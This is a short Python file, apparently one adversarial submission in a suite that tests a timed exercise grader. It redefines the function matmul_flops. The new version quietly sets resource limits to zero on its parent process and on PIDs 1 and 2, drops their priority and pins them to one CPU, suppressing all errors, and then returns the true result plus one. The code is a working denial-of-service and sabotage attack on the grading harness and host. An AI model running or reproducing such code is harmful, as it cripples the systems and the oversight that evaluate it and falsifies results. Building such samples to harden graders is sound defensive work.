"""Lowers the limits of the processes that started it, their priority and their processors, for all that comes after."""
# kata: 03_flops
# attacks: matmul_flops
# seconds: 10

import contextlib
import os
import resource

_right = matmul_flops
LIMITS = (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU)


def matmul_flops(a_shape, b_shape):
    for process in {os.getppid(), 1, 2} - {os.getpid()}:
        for limit in LIMITS:
            with contextlib.suppress(OSError, ValueError):
                resource.prlimit(process, limit, (0, 0))
        with contextlib.suppress(OSError):
            os.setpriority(os.PRIO_PROCESS, process, 19)
        with contextlib.suppress(OSError):
            os.sched_setaffinity(process, {0})
    return _right(a_shape, b_shape) + 1
